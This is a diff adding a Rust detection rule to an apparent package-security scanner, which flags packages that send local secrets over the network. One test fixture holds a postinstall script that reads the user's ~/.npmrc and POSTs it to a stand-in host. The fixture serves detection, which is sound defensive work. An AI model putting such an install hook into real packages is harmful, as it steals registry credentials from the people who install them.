@@ -1,0 +1,87 @@
+//! A secret leaves over the network.
+
+use super::{Context, Declaration, Example, Finding, judge};
+use crate::model::Severity;
+
+pub(super) static FINDING: Declaration = Declaration {
+    id: "credential-exfiltration",
+    title: "Sends a secret over the network",
+    severity: Severity::Critical,
+    summary: "A secret that the package finds on the machine (a file, a variable, a store of passwords) reaches a request, a socket or a DNS question.",
+    advice: "Look at the host that gets it. If you don't expect the package to hand over this secret to that host, don't install it; if it already ran, revoke the secret.",
+    benign_when: "The package is a client of the service that gave out the secret, and the host is that service's.",
+    references: &["CWE-200", "CWE-506", "T1041", "T1552.001"],
+    examples: &[
+        Example {
+            name: "an install script posts the npm configuration",
+            severity: Some(Severity::Critical),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const fs = require("fs"), os = require("os"), https = require("https");
+const text = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
+const request = https.request({ hostname: "collect.invalid", method: "POST" });
+request.end(text);"#,
+                ),
+            ],
+        },
+        Example {
+            name: "a client sends its own vendor's key to the vendor",
+            severity: Some(Severity::Low),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"exports.ask = (q) => fetch("https://api.openai.example/v1", {
+  headers: { authorization: process.env.OPENAI_API_KEY }, body: q });"#,
+                ),
+            ],
+        },
+        Example {
+            name: "a reader of the configuration that sends nothing",
+            severity: None,
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const fs = require("fs"), os = require("os");
+exports.read = () => fs.readFileSync(os.homedir() + "/.npmrc", "utf8");"#,
+                ),
+            ],
+        },
+    ],
+    detect,
+};
+
+fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
+    for flow in context.flows {
+        if flow.id != "credential-to-network" {
+            continue;
+        }
+        let secret = flow.source.target.as_deref().unwrap_or("a secret");
+        let host = flow
+            .sink
+            .target
+            .as_deref()
+            .unwrap_or("a host that is not resolved");
+        let message = format!("{secret} ({}) is sent to {host}", flow.source.id);
+        let mut finding = Finding::of_flow(&FINDING, flow, message);
+        if judge::same_vendor(secret, flow.source.id, host) {
+            let note = format!("{host} bears the name of the secret's own service");
+            finding.lower(Severity::Low, "same-vendor", note);
+        }
+        judge::by_destination(context, flow, &flow.sink, Severity::Low, &mut finding);
+        judge::by_reach(flow, &mut finding);
+        found.push(finding);
+    }
+}
